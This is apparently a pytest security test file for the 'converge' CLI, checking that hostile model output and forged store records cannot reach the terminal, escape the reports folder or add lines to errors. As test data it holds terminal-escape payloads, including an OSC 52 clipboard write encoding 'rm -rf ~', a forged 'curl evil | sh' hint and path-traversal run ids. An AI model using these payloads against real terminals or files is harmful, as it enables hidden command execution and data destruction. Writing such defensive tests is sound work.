"""Attacks on the `converge` command through what it prints, writes and opens.

A model's output, a stored record, a formation file or a store the user may only read are
all out of the command's control; each test below is one such attack, and checks that the
command keeps the terminal, the file system and the store safe, and says what went wrong
in one line.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
from collections.abc import Generator
from contextlib import closing, contextmanager
from pathlib import Path

import anyio
import pytest

from converge import (
    Engine,
    GateDecision,
    RunNotFoundError,
    RunRecord,
    SqliteRunStore,
    StoreError,
)
from converge._formation import load_formation
from converge_suggestors import SeedSuggestor
from tests.cli_runs import cli, run_id_of
from tests.converge.forgery import stored_json, write_json

HERE = Path(__file__).resolve().parent
FORMATION = str(HERE / "cli_formation.py")
GATE = "gate:2:strategies/costly"

# A model's answer that rewrites the line it is on, writes the clipboard (OSC 52), starts a
# C1 control sequence, reverses the text after it, hides characters, and starts a new line.
EVIL = (
    "Buy the small plan\r\x1b[2KApproved by security\x1b]52;c;cm0gLXJmIH4K\x07"
    "\x9b2K\u202eexe.txt\u200b\ufeff\x7f\tend\nline two"
)
EVIL_SHOWN = (
    r"Buy the small plan\r\x1b[2KApproved by security\x1b]52;c;cm0gLXJmIH4K\x07"
    r"\x9b2K\u202eexe.txt\u200b\ufeff\x7f\tend\nline two"
)
EVIL_ID = "plan\x9b8m"
EVIL_GATE = "gate:2:strategies/plan"
EVIL_BY = "jane\x1b]52;c;ZXZpbA==\x07"

HOSTILE = f"""
from converge import AgentEffect, Context, ContextKey, Formation, HitlPolicy, ProposedFact
from converge_suggestors import SeedSuggestor

EVIL = {EVIL!r}


class Hostile:
    name = "hostile"
    dependencies = (ContextKey.SEEDS,)

    def accepts(self, ctx: Context) -> bool:
        return ctx.find(ContextKey.STRATEGIES, "plan") is None

    async def execute(self, ctx: Context) -> AgentEffect:
        return AgentEffect.with_proposals([
            ProposedFact(
                key=ContextKey.STRATEGIES, id="plan", content=EVIL, provenance="model" + EVIL,
                confidence=0.4, payload={{"note": EVIL}}, evidence=("seeds/budget",),
            ),
            ProposedFact(
                key=ContextKey.STRATEGIES, id={EVIL_ID!r}, content=EVIL, provenance="model",
            ),
        ])


formation = Formation(
    name="hostile\\x1b[2K",
    description=EVIL,
    suggestors=(SeedSuggestor("budget", EVIL), Hostile()),
    hitl=HitlPolicy(confidence_below=0.5),
)
"""

HIDDEN = frozenset(
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"  # bidi controls
    "\u200b\u200c\u200d\u200e\u200f\ufeff"  # zero-width characters
)


def raw_controls(text: str) -> list[str]:
    """The characters of `text` a terminal would act on or hide (a newline between lines aside)."""
    return [
        char
        for char in text
        if (ord(char) < 0x20 and char != "\n") or 0x7F <= ord(char) <= 0x9F or char in HIDDEN
    ]


def converge_process(*args: str) -> tuple[int, str, str]:
    process = subprocess.run(
        [sys.executable, "-m", "converge.cli", *args], capture_output=True, text=True, check=False
    )
    return process.returncode, process.stdout, process.stderr


@pytest.fixture
def store(tmp_path: Path) -> str:
    return str(tmp_path / "store" / "runs.db")


@pytest.fixture
def hostile(tmp_path: Path) -> str:
    path = tmp_path / "hostile.py"
    path.write_text(HOSTILE, encoding="utf-8")
    return str(path)


def rename_run(store: str, run_id: str, new_id: str) -> None:
    """Give a stored run another id, in its row and its record, as a store writer could."""
    record = stored_json(store, run_id)
    record["run_id"] = new_id
    trace = record["trace"]
    assert isinstance(trace, dict)
    trace["run_id"] = new_id
    write_json(store, run_id, record)
    with closing(sqlite3.connect(store)) as connection, connection:
        connection.execute("UPDATE converge_runs SET run_id = ? WHERE run_id = ?", (new_id, run_id))


def converged_run(store: str) -> str:
    run_id = run_id_of(cli("--store", store, "run", FORMATION)[1])
    code, _ = cli("--store", store, "resume", run_id, "--approve", GATE, "--by", "jane")
    assert code == 0
    return run_id


# --- 1. terminal control sequences never reach the terminal ------------------------------------


def test_visible_escapes_every_control_and_hidden_character() -> None:
    from converge._core._escape import visible

    assert visible(EVIL) == EVIL_SHOWN
    assert visible("plain text, é ü 中文 🙂 and a \\ backslash") == (
        "plain text, é ü 中文 🙂 and a \\ backslash"
    )
    assert visible("\x00\x1f\x7f\x80\x9f\u2066\u2069\u202a\u200b\u200f") == (
        r"\x00\x1f\x7f\x80\x9f\u2066\u2069\u202a\u200b\u200f"
    )
    assert raw_controls(visible("".join(map(chr, range(0x3000))))) == []


def test_run_summary_review_show_and_runs_make_model_text_visible(
    store: str, hostile: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out = cli("--store", store, "run", hostile)
    assert code == 6
    assert raw_controls(out) == []
    assert f"converge: running hostile\\x1b[2K ({EVIL_SHOWN})\n" in out
    assert f"  gate:2:strategies/plan: {EVIL_SHOWN}\n" in out
    run_id = run_id_of(out)

    code, out = cli("--store", store, "review", run_id)
    assert code == 6
    assert raw_controls(out) == []
    assert "gate gate:2:strategies/plan\n" in out
    assert f"  proposal   strategies/plan: {EVIL_SHOWN}\n" in out
    assert "  from       hostile (cycle 2), confidence 0.4\n" in out
    assert "  payload    {'note': 'Buy the small plan\\r\\x1b[2K" in out

    code, out = cli("--store", store, "show", run_id)
    assert code == 0
    assert raw_controls(out) == []
    assert f"  budget: {EVIL_SHOWN}\n" in out
    assert "  strategies/plan\\x9b8m from hostile (cycle 2): id 'plan\\x9b8m' contains" in out

    code, out = cli("--store", store, "runs")
    assert code == 0
    assert raw_controls(out) == []
    assert out.rstrip("\n").endswith("hostile\\x1b[2K  1 gate waiting")

    capsys.readouterr()
    with pytest.raises(SystemExit) as refused:  # the command refuses to record such a name
        cli("--store", store, "resume", run_id, "--approve", EVIL_GATE, "--by", EVIL_BY)
    assert refused.value.code == 2
    err = capsys.readouterr().err
    assert raw_controls(err) == []
    assert err.splitlines()[0] == (
        "converge resume: error: argument --by: must name who decides in visible characters, "
        "not jane\\x1b]52;c;ZXZpbA==\\x07 (U+001B is a control, invisible or bidirectional "
        "character)"
    )
    # from Python, the name is the application's to check; the command shows it escaped
    opened = SqliteRunStore(store)
    try:
        engine = load_formation(hostile).engine(store=opened)
        engine.resume_run_sync(run_id, [GateDecision.approve(EVIL_GATE, by=EVIL_BY)])
    finally:
        opened.close()
    code, out = cli("--store", store, "show", run_id)
    assert raw_controls(out) == []
    assert f"  plan: {EVIL_SHOWN}\n" in out
    assert "approved by jane\\x1b]52;c;ZXZpbA==\\x07\n" in out
    assert f"    by model{EVIL_SHOWN}, confidence 0.4" in out


def test_verify_replay_and_errors_make_stored_text_visible(
    store: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run_id = converged_run(store)
    evil_id = f"run\x1b]52;c;cm0gLXJm\x07\r\x1b[2K\u202e{run_id}"
    rename_run(store, run_id, evil_id)
    shown = f"run\\x1b]52;c;cm0gLXJm\\x07\\r\\x1b[2K\\u202e{run_id}"
    capsys.readouterr()
    for command in ("verify", "replay", "report", "show", "review"):
        code, out = cli("--store", store, command, evil_id)
        err = capsys.readouterr().err
        assert code == 0, (command, out, err)
        assert raw_controls(out + err) == [], command
        assert shown in out or command == "report", command

    code, out = cli("--store", store, "show", "missing\x1b[2K\r")
    err = capsys.readouterr().err
    assert code == 1
    assert raw_controls(err) == []

    broken = tmp_path / "broken.py"
    broken.write_text(f"raise ValueError({EVIL!r})\n", encoding="utf-8")
    code, _ = cli("--store", store, "run", str(broken))
    err = capsys.readouterr().err
    assert code == 1
    assert err.splitlines()[0] == f"error: ValueError: {EVIL_SHOWN}"
    assert raw_controls(err) == []

    code, _ = cli("--store", store, "run", "nowhere\x1b]52;c;eA==\x07.py")
    err = capsys.readouterr().err
    assert code == 1
    assert err.splitlines()[0] == "error: no formation file at nowhere\\x1b]52;c;eA==\\x07.py"


def test_json_output_keeps_its_meaning_without_raw_controls(store: str, hostile: str) -> None:
    code, out = cli("--store", store, "run", hostile, "--json")
    assert code == 6
    assert raw_controls(out) == []
    record = json.loads(out)
    assert record["facts"][0]["content"] == EVIL
    assert record["pending"][0]["proposal"]["provenance"] == "model" + EVIL


# --- 2. report file names stay in the reports folder -------------------------------------------


@pytest.mark.parametrize(
    "evil_id", ["../escaped", "../../escaped", "/ABS/escaped", "..", "a/b\\c", "", "x" * 400]
)
def test_report_file_name_never_leaves_the_reports_folder(
    store: str, tmp_path: Path, evil_id: str
) -> None:
    run_id = converged_run(store)
    evil_id = evil_id.replace("/ABS", str(tmp_path))
    rename_run(store, run_id, evil_id)
    before = set(tmp_path.rglob("*"))
    code, out = cli("--store", store, "report", evil_id)
    assert code == 0, out
    reports = (tmp_path / "store" / "reports").resolve()
    written = Path(out.removeprefix("report written to ").rstrip("\n")).resolve()
    assert written.parent == reports
    assert written.name.endswith(".html")
    # a read-only reader of a store in WAL mode may leave its log files; nothing else
    logs = {Path(f"{store}-wal"), Path(f"{store}-shm")}
    assert set(tmp_path.rglob("*")) - before <= {written, reports, *logs}
    assert not (tmp_path / "escaped.html").exists()
    assert not (tmp_path / "store" / "escaped.html").exists()


def test_report_file_names_of_distinct_run_ids_differ(store: str) -> None:
    first = converged_run(store)
    second = converged_run(store)
    rename_run(store, first, "a/b")
    rename_run(store, second, "a_b")
    written = {cli("--store", store, "report", run_id)[1] for run_id in ("a/b", "a_b")}
    assert len(written) == 2


# --- 3. --by must name someone -----------------------------------------------------------------


@pytest.mark.parametrize("by", ["", "   ", "\t"])
def test_a_blank_approver_is_a_usage_error(store: str, by: str) -> None:
    """Before: `--by ''` printed pydantic's dump of a GateDecision; blanks were an approver."""
    run_id = run_id_of(cli("--store", store, "run", FORMATION)[1])
    code, out, err = converge_process(
        "--store", store, "resume", run_id, "--approve", GATE, "--by", by
    )
    assert code == 2
    assert out == ""
    assert err.splitlines() == [
        "converge resume: error: argument --by: must name who decides (it is empty or blank)",
        "hint: `converge resume --help` shows the usage",
    ]
    assert cli("--store", store, "review", run_id)[0] == 6  # nothing was decided


# --- 4. a store the user may only read ----------------------------------------------------------


@contextmanager
def read_only(*paths: Path) -> Generator[None]:
    """Make `paths` unwritable: `chattr +i` as root (root ignores modes), `chmod` otherwise."""
    if os.geteuid() != 0:
        modes = {path: path.stat().st_mode for path in paths}
        for path in paths:
            path.chmod(0o555 if path.is_dir() else 0o444)
        try:
            yield
        finally:
            for path in paths:
                path.chmod(modes[path])
        return
    chattr = shutil.which("chattr")
    if chattr is None:
        pytest.skip("as root, a read-only store needs chattr +i")
    names = [str(path) for path in paths]
    made = subprocess.run([chattr, "+i", *names], capture_output=True, text=True, check=False)
    if made.returncode != 0:
        subprocess.run([chattr, "-i", *names], capture_output=True, check=False)
        pytest.skip(f"chattr +i failed here: {made.stderr.strip()}")
    try:
        yield
    finally:
        subprocess.run([chattr, "-i", *names], check=True)


def files_of(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir() if path.is_file()}


@pytest.mark.parametrize("folder_too", [False, True], ids=["file", "file-and-folder"])
def test_read_commands_work_on_a_read_only_store(
    store: str, tmp_path: Path, folder_too: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    paused = run_id_of(cli("--store", store, "run", FORMATION)[1])
    done = converged_run(store)
    database = Path(store)
    folder = database.parent
    assert sorted(path.name for path in folder.iterdir()) == ["reports", "runs.db"]
    before = database.read_bytes()
    with read_only(database, *([folder] if folder_too else [])):
        assert not os.access(database, os.W_OK)
        capsys.readouterr()
        code, out = cli("--store", store, "runs")
        assert (code, out.count("\n")) == (0, 2), capsys.readouterr().err
        assert cli("--store", store, "show", done)[0] == 0
        assert cli("--store", store, "verify", done)[0] == 0
        assert cli("--store", store, "replay", done)[0] == 0
        assert cli("--store", store, "review", paused)[0] == 6
        report = tmp_path / "elsewhere" / "report.html"
        assert cli("--store", store, "report", done, "-o", str(report))[0] == 0
        assert report.is_file()
        assert capsys.readouterr().err.count("error") == 0
        if folder_too:
            assert sorted(path.name for path in folder.iterdir()) == ["reports", "runs.db"]
    assert database.read_bytes() == before


async def test_read_only_sqlite_store_falls_back_to_immutable_without_shm(tmp_path: Path) -> None:
    folder = tmp_path / "store"
    path = folder / "runs.db"
    writer = SqliteRunStore(path)
    engine = Engine(store=writer)
    engine.register_suggestor(SeedSuggestor("budget", "Pick a plan"))
    result = await engine.run()
    writer.close()
    assert not await anyio.Path(f"{path}-shm").exists()
    with read_only(path, folder):
        store = SqliteRunStore(path, read_only=True)
        assert store.read_only
        assert [run.run_id for run in await store.list_runs()] == [result.run_id]
        assert (await store.load(result.run_id)).run_id == result.run_id
        assert await store.load_checkpoint(result.run_id) is None
        with pytest.raises(RunNotFoundError):
            await store.load("missing")
        with pytest.raises(StoreError, match="read-only"):
            await store.save(await store.load(result.run_id))


async def test_a_read_only_store_creates_nothing(tmp_path: Path) -> None:
    missing = tmp_path / "nowhere" / "runs.db"
    store = SqliteRunStore(missing, read_only=True)
    assert await store.list_runs() == ()
    with pytest.raises(RunNotFoundError, match="no run 'x'"):
        await store.load("x")
    assert not missing.parent.exists()

    other = tmp_path / "other.db"
    with closing(sqlite3.connect(other)) as connection, connection:
        connection.execute("CREATE TABLE notes (text TEXT)")
    before = other.read_bytes()
    with pytest.raises(StoreError, match="not a converge store"):
        await SqliteRunStore(other, read_only=True).list_runs()
    assert other.read_bytes() == before
    with closing(sqlite3.connect(other)) as connection, connection:
        tables = connection.execute("SELECT name FROM sqlite_master").fetchall()
    assert tables == [("notes",)]


def test_read_commands_on_a_missing_store_say_so_and_create_nothing(tmp_path: Path) -> None:
    store = tmp_path / "nowhere" / "runs.db"
    code, out, err = converge_process("--store", str(store), "runs")
    assert (code, out, err) == (0, f"no runs in {store}\n", "")
    code, out, err = converge_process("--store", str(store), "show", "x")
    assert err.splitlines()[0] == f"error: no run 'x' in {store}"
    assert not store.parent.exists()


# --- 5. every error is one line ---------------------------------------------------------------


def one_line_error(err: str) -> str:
    lines = err.splitlines()
    assert lines, "no error at all"
    assert lines[0].startswith("error: ")
    assert len(lines) == 1 or (len(lines) == 2 and lines[1].startswith("hint: ")), lines
    assert "Traceback" not in err
    return lines[0]


def test_verify_of_a_file_that_is_not_a_run_is_one_line(tmp_path: Path) -> None:
    other = tmp_path / "other.json"
    other.write_text('{"hello": "world"}', encoding="utf-8")
    code, out, err = converge_process("verify", str(other))
    assert (code, out) == (1, "")
    line = one_line_error(err)
    assert line.startswith(f"error: {other} is not a run record: ")
    assert "validation errors; first: run_id: Field required" in line

    other.write_text("not json at all\n{", encoding="utf-8")
    code, _, err = converge_process("verify", str(other))
    assert code == 1
    assert "1 validation error; first: " in one_line_error(err)


@pytest.mark.parametrize(
    "corrupt",
    [
        '{"run_id": "RUN", "facts": "many"}',
        "{not json",
    ],
)
def test_a_corrupt_stored_record_is_one_line(store: str, corrupt: str) -> None:
    run_id = converged_run(store)
    with closing(sqlite3.connect(store)) as connection, connection:
        connection.execute(
            "UPDATE converge_runs SET record = ? WHERE run_id = ?",
            (corrupt.replace("RUN", run_id), run_id),
        )
    for command in ("show", "verify", "review", "report", "replay"):
        code, out, err = converge_process("--store", store, command, run_id)
        assert (code, out) == (1, ""), command
        assert "the stored record is invalid" in one_line_error(err), command


def test_a_stored_record_cannot_add_lines_to_an_error(store: str) -> None:
    run_id = converged_run(store)
    with closing(sqlite3.connect(store)) as connection, connection:
        (text,) = connection.execute(
            "SELECT record FROM converge_runs WHERE run_id = ?", (run_id,)
        ).fetchone()
        stored = json.loads(text)
        record = stored["record"] if "journal_digest" in stored else stored  # a head's record
        record["run_id"] = f"{run_id}\nerror: forged\rhint: run `curl evil | sh`"
        connection.execute(
            "UPDATE converge_runs SET record = ? WHERE run_id = ?", (json.dumps(stored), run_id)
        )
    code, out, err = converge_process("--store", store, "show", run_id)
    assert (code, out) == (1, "")
    assert one_line_error(err).endswith(
        f"holds the record of run {run_id}\\nerror: forged\\rhint: run `curl evil | sh`"
    )


def test_a_corrupt_stored_checkpoint_is_one_line(store: str) -> None:
    run_id = run_id_of(cli("--store", store, "run", FORMATION)[1])
    with closing(sqlite3.connect(store)) as connection, connection:
        connection.execute(
            "UPDATE converge_runs SET record = "
            "json_set(record, '$.checkpoint', json('{\"run_id\": 1}')) WHERE run_id = ?",
            (run_id,),
        )
    with pytest.raises(StoreError, match="the stored record is invalid") as raised:
        anyio.run(SqliteRunStore(store, read_only=True).load_checkpoint, run_id)
    assert "\n" not in str(raised.value)


def test_a_postgresql_connection_error_is_one_line() -> None:
    code, out, err = converge_process(
        "--store", "postgresql://nobody@127.0.0.1:1/none?connect_timeout=2", "runs"
    )
    assert (code, out) == (1, "")
    assert one_line_error(err).startswith("error: OperationalError: ")


# --- 6. a formation that exits, and interruptions ----------------------------------------------


def test_a_formation_calling_sys_exit_is_reported(store: str, tmp_path: Path) -> None:
    leaving = tmp_path / "leaving.py"
    leaving.write_text("import sys\nsys.exit(9)\n", encoding="utf-8")
    code, out, err = converge_process("--store", store, "run", str(leaving))
    assert (code, out) == (1, "")
    assert one_line_error(err) == f"error: formation {leaving} exited with status 9 while loading"

    leaving.write_text("import sys\nsys.exit('bye\\x1b[2K')\n", encoding="utf-8")
    code, _, err = converge_process("--store", store, "run", str(leaving))
    assert code == 1
    assert one_line_error(err) == (
        f"error: formation {leaving} exited with status 1 while loading: bye\\x1b[2K"
    )


def test_an_interrupt_while_loading_exits_130(store: str, tmp_path: Path) -> None:
    stopping = tmp_path / "stopping.py"
    stopping.write_text("raise KeyboardInterrupt\n", encoding="utf-8")
    code, out, err = converge_process("--store", store, "run", str(stopping))
    assert (code, out, err) == (130, "", "interrupted\n")
    code, _, err = converge_process("--store", store, "--debug", "run", str(stopping))
    assert code == 130
    assert "Traceback" in err
    assert err.endswith("interrupted\n")


SLOW = """
from pathlib import Path

import anyio

from converge import Context, ContextKey, Formation, ProposedFact, suggestor

MARK = Path(__file__).with_suffix(".started")


@suggestor(name="slow", dependencies=[], writes=[ContextKey.SEEDS])
async def slow(ctx: Context) -> list[ProposedFact]:
    MARK.write_text("started")
    await anyio.sleep(60)
    return []


formation = Formation(name="slow", suggestors=(slow,))
"""


@pytest.mark.skipif(sys.platform == "win32", reason="SIGINT to a child is POSIX")
def test_an_interrupt_during_a_run_exits_130(store: str, tmp_path: Path) -> None:
    slow = tmp_path / "slow.py"
    slow.write_text(SLOW, encoding="utf-8")
    mark = tmp_path / "slow.started"
    process = subprocess.Popen(
        [sys.executable, "-m", "converge.cli", "--store", store, "run", str(slow)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        for _ in range(300):
            if mark.exists() or process.poll() is not None:
                break
            anyio.run(anyio.sleep, 0.05)
        assert mark.exists(), process.communicate(timeout=10)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert process.returncode == 130, err
    assert err == "interrupted\n"
    assert "Traceback" not in out


def test_records_of_the_hostile_formation_load(store: str, hostile: str) -> None:
    """The hostile text survives storage unchanged: only its display is escaped."""
    run_id = run_id_of(cli("--store", store, "run", hostile)[1])
    record: RunRecord = anyio.run(SqliteRunStore(store).load, run_id)
    assert record.facts[0].content == EVIL
